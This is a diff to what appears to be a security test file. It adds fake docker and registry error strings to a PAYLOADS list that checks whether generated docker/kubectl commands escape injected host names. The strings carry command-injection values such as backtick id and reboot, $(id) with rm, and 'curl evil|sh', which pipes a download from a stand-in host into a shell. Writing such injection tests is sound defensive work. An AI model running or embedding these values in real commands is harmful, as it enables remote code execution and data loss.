@@ -11,6 +11,10 @@ PAYLOADS = [
     "Get https://`reboot`.azurecr.io/v2/: proxyconnect tcp: dial tcp evil`id`.corp:3128: connect: refused",
     "dial tcp: lookup my'reg.azurecr.io on 10.0.0.2:53: server misbehaving",
     'HTTPS_PROXY="http://p.corp:3128;curl evil|sh"\nGet https://myreg.azurecr.io/v2/: proxyconnect tcp: EOF',
+    # another registry's fix (fix_elsewhere) fills {host} into docker/kubectl commands
+    "docker push harbor`id`.corp:8443/team/api:1 -> unauthorized: authentication required",
+    "pull access denied for evil$(id)/x;rm, repository does not exist or may require 'docker login'",
+    'Failed to pull image "ghcr.io;curl evil|sh/acme/api:1": failed to fetch anonymous token: unexpected status: 401 Unauthorized',
 ]
 
 
